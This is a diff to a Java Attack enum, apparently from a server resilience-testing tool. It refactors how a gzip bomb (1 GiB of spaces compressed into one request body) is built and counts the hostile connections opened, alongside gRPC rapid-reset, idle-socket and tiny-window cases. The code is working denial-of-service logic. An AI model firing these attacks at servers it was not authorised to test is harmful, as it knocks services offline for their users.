@@ -5,6 +5,7 @@ import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
+import java.util.concurrent.atomic.LongAdder;
 import java.util.concurrent.locks.LockSupport;
 import java.util.function.BooleanSupplier;
 import java.util.zip.GZIPOutputStream;
@@ -39,10 +40,7 @@ public enum Attack {
   private static final int FRAMES = 20_000;
   private static final int STREAMS = 100;
   private static final int PIPELINED = 50;
-  private static final int GIGABYTE = 1 << 30;
-  private static final int BLOCK = 1 << 16;
   private static final byte[] NONE = new byte[0];
-  private static final byte[] BOMB = bomb();
   private static final byte[] WINDOW_OF_ONE = {0, 4, 0, 0, 0, 1};
   private static final Duration PAUSE = Duration.ofMillis(100);
   private static final Duration BYTE_OF_HEAD = Duration.ofSeconds(1);
@@ -76,10 +74,11 @@ public enum Attack {
   }
 
   /** One of its connections: returns when it is over. */
-  void run(Target target, BooleanSupplier goesOn) {
+  void run(Target target, BooleanSupplier goesOn, LongAdder opened) {
     while (goesOn.getAsBoolean()) {
       int port = this == GRPC_RAPID_RESET ? target.grpc() : target.http();
       try (HostileConnection connection = new HostileConnection(port)) {
+        opened.increment();
         attack(target, connection, goesOn);
       } catch (IOException cut) {
         // It is opened again.
@@ -106,8 +105,8 @@ public enum Attack {
       }
       case IDLE_SOCKETS -> pause(BYTE_OF_BODY, goesOn);
       case GZIP_BOMB -> {
-        connection.text(post(target, "Content-Encoding: gzip\r\n", BOMB.length));
-        connection.bytes(BOMB);
+        connection.text(post(target, "Content-Encoding: gzip\r\n", Bomb.PACKED.length));
+        connection.bytes(Bomb.PACKED);
         pause(PAUSE, goesOn);
       }
       case TINY_WINDOWS -> {
@@ -188,17 +187,23 @@ public enum Attack {
         + "\r\n";
   }
 
-  /** Made before the first attack: it takes seconds. */
-  private static byte[] bomb() {
-    ByteArrayOutputStream packed = new ByteArrayOutputStream();
-    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
-      byte[] block = " ".repeat(BLOCK).getBytes(StandardCharsets.US_ASCII);
-      for (int i = 0; i < GIGABYTE / BLOCK; i++) {
-        gzip.write(block);
+  /** Made when it is first thrown: it takes seconds. */
+  private static final class Bomb {
+    private static final int GIGABYTE = 1 << 30;
+    private static final int BLOCK = 1 << 16;
+    private static final byte[] PACKED = pack();
+
+    private static byte[] pack() {
+      ByteArrayOutputStream packed = new ByteArrayOutputStream();
+      try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
+        byte[] block = " ".repeat(BLOCK).getBytes(StandardCharsets.US_ASCII);
+        for (int i = 0; i < GIGABYTE / BLOCK; i++) {
+          gzip.write(block);
+        }
+      } catch (IOException impossible) {
+        throw new UncheckedIOException(impossible);
       }
-    } catch (IOException impossible) {
-      throw new UncheckedIOException(impossible);
+      return packed.toByteArray();
     }
-    return packed.toByteArray();
   }
 }
